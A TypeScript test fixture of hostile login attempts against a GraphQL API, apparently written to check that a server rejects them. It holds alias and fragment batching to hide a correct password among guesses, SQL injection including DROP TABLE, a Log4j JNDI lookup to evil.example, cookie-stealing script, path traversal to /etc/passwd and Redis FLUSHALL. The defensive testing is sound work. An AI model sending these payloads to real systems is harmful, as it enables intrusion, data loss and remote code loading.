import { badInput, refusal } from './entry.ts'
import type { Expected, Hostile } from './entry.ts'

const right = 'login(input: { username: "admin", password: "<<ADMIN_PASSWORD>>" })'
const wrong = 'login(input: { username: "admin", password: "guess" })'
const pick = '{ __typename ... on Error { code } }'

/** One guess a document: the right password, hidden behind another, must not be found. */
const disguises: [attack: string, document: string][] = [
  ['aliases', `mutation { a: ${wrong} ${pick} b: ${right} ${pick} }`],
  ['an alias and none', `mutation { ${wrong} ${pick} b: ${right} ${pick} }`],
  ['the same twice, which merges into one', `mutation { ${right} ${pick} ${right} ${pick} }`],
  [
    '__proto__ as an alias',
    `mutation { __proto__: ${wrong} ${pick} constructor: ${right} ${pick} }`,
  ],
  [
    'a fragment',
    `mutation { a: ${wrong} ${pick} ...f } fragment f on Mutation { ${right} ${pick} }`,
  ],
  [
    'one fragment, spread twice',
    `mutation { ...f ...f } fragment f on Mutation { ${right} ${pick} }`,
  ],
  [
    'two fragments',
    `mutation { ...f ...g } fragment f on Mutation { a: ${wrong} ${pick} } fragment g on Mutation { b: ${right} ${pick} }`,
  ],
  [
    'a fragment in a fragment, doubled',
    `mutation { ...f } fragment f on Mutation { ...g ...g } fragment g on Mutation { ${right} ${pick} }`,
  ],
  [
    'inline fragments',
    `mutation { ... { a: ${wrong} ${pick} } ... on Mutation { b: ${right} ${pick} } }`,
  ],
  [
    'inline fragments in each other',
    `mutation { ... { ... { a: ${wrong} ${pick} ... { b: ${right} ${pick} } } } }`,
  ],
  ['@skip on one', `mutation { a: ${wrong} ${pick} b: ${right} @skip(if: false) ${pick} }`],
  [
    '@skip on both',
    `mutation { a: ${wrong} @skip(if: true) ${pick} b: ${right} @skip(if: true) ${pick} }`,
  ],
  [
    '@include by a variable',
    `mutation ($no: Boolean = false) { a: ${wrong} @include(if: $no) ${pick} b: ${right} ${pick} }`,
  ],
  [
    '@include on a fragment',
    `mutation { a: ${wrong} ${pick} ...f @include(if: true) } fragment f on Mutation { b: ${right} ${pick} }`,
  ],
  ['two operations', `mutation a { ${wrong} ${pick} } mutation b { ${right} ${pick} }`],
  [
    'something between',
    `mutation { a: ${wrong} ${pick} clearCart { __typename } b: ${right} ${pick} }`,
  ],
  [
    'ten at once',
    `mutation { ${Array.from({ length: 9 }, (_, n) => `a${n}: ${wrong} ${pick}`).join(' ')} b: ${right} ${pick} }`,
  ],
]

const login = `mutation ($username: String!, $password: String!) { login(input: { username: $username, password: $password }) ${pick} }`
const notIn = refusal('INVALID_CREDENTIALS')

const guesses: [attack: string, username: string, password: string, expect?: Expected][] = [
  ['no name and no password', '', ''],
  ['an empty password of a user who exists', 'admin', ''],
  ['the dummy password of the source', 'nobody', 'password'],
  ['the username as the password', 'admin', 'admin'],
  ['a password of a space', 'admin', ' '],
  ['the right password and a NUL', 'admin', '<<ADMIN_PASSWORD>>\0'],
  ['a NUL and the right password', 'admin', '\0<<ADMIN_PASSWORD>>'],
  ['the right password and a space', 'admin', '<<ADMIN_PASSWORD>> '],
  ['the right password and a line', 'admin', '<<ADMIN_PASSWORD>>\r\n'],
  ['a password of 1,025 bytes', 'admin', 'x'.repeat(1025)],
  ['a password of 513 characters in 1,026 bytes', 'admin', 'é'.repeat(513)],
  ['a password of 90,000 characters', 'admin', 'x'.repeat(90_000)],
  ['a password of 16,000 combining marks', 'admin', `a${'\u0301'.repeat(16_000)}`],
  [
    'a hash as the password',
    'admin',
    '$argon2id$v=19$m=19456,t=2,p=1$c2FsdHNhbHRzYWx0c2FsdA$AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
  ],
  ['a username of 10,000 characters', 'x'.repeat(10_000), 'guess'],
  ['a username of 90,000 characters', 'x'.repeat(90_000), 'guess'],
  ['a username that grows 18 times when it is normalised', '\ufdfa'.repeat(5_000), 'guess'],
  ['a username with a NUL', 'admin\0', '<<ADMIN_PASSWORD>>'],
  ['a username cut off by a NUL', 'admin\0x', '<<ADMIN_PASSWORD>>'],
  ['a username with a space inside', 'ad min', '<<ADMIN_PASSWORD>>'],
  ['a username with a zero-width space', 'ad\u200bmin', '<<ADMIN_PASSWORD>>'],
  ['a username that reads backwards', '\u202enimda', '<<ADMIN_PASSWORD>>'],
  ['a username of Cyrillic look-alikes', '\u0430dmin', '<<ADMIN_PASSWORD>>'],
  ['a Turkish capital', 'adm\u0130n', '<<ADMIN_PASSWORD>>'],
  ['SQL that is always true', "' OR 1=1 --", 'guess'],
  ['SQL that comments the password away', "admin' --", 'guess'],
  ['SQL that drops a table', 'x"; DROP TABLE "User"; --', 'guess'],
  ['SQL that waits', "' || pg_sleep(10) --", 'guess'],
  ['a wildcard of LIKE', 'adm%', '<<ADMIN_PASSWORD>>'],
  ['a wildcard of LIKE for one character', 'admi_', '<<ADMIN_PASSWORD>>'],
  ['a wildcard of the shell', 'admin*', '<<ADMIN_PASSWORD>>'],
  ['an operator of MongoDB in a text', '{"$ne":null}', '{"$ne":null}'],
  ['a filter of LDAP', '*)(uid=*))(|(uid=*', 'guess'],
  ['XPath', "' or '1'='1", "' or '1'='1"],
  ['a user of the prototype', '__proto__', 'guess'],
  ['a user that every object is', 'constructor', 'guess'],
  ['a log line', 'x\r\n{"level":60,"forged":true}', 'guess'],
  ['a log line after a line separator', 'x\u2028{"level":60,"forged":true}\u2029', 'guess'],
  ['a log line inside the line', '","level":60,"forged":true,"x":"', 'guess'],
  ['colours of a terminal', '\u001b[2J\u001b[31mroot\u001b[0m\u009b1A', 'guess'],
  ['a look-up of Log4j', '${jndi:ldap://evil.example/a}', 'guess'],
  ['a template', '{{7*7}}<%= 7*7 %>#{7*7}${7*7}', 'guess'],
  ['a format', '%s%s%n%p%j%o%O%c', 'guess'],
  ['a script', '<script>alert(document.cookie)</script>', 'guess'],
  ['a path', '../../../../etc/passwd', 'guess'],
  ['commands of Memcached', 'x\r\nset a 0 0 1\r\n1\r\n', 'guess'],
  ['commands of Redis', '*1\r\n$8\r\nFLUSHALL\r\n', 'guess'],
  ['half a character', 'a\ud800', 'guess'],
  ['half a character as the password', 'admin', '\udfff'],
]

/** Logins: many in one document, and every text that a visitor may type. */
export const logins: readonly Hostile[] = [
  ...disguises.map(([attack, document]): Hostile => {
    const operationName = document.startsWith('mutation a') ? 'b' : undefined
    return {
      attack: `two logins in one document: ${attack}`,
      shows: ['D15'],
      document,
      operationName,
      expect: badInput,
    }
  }),
  ...guesses.map(([attack, username, password, expect = notIn]): Hostile => {
    return {
      attack: `login: ${attack}`,
      document: login,
      variables: { username, password },
      expect,
    }
  }),
]
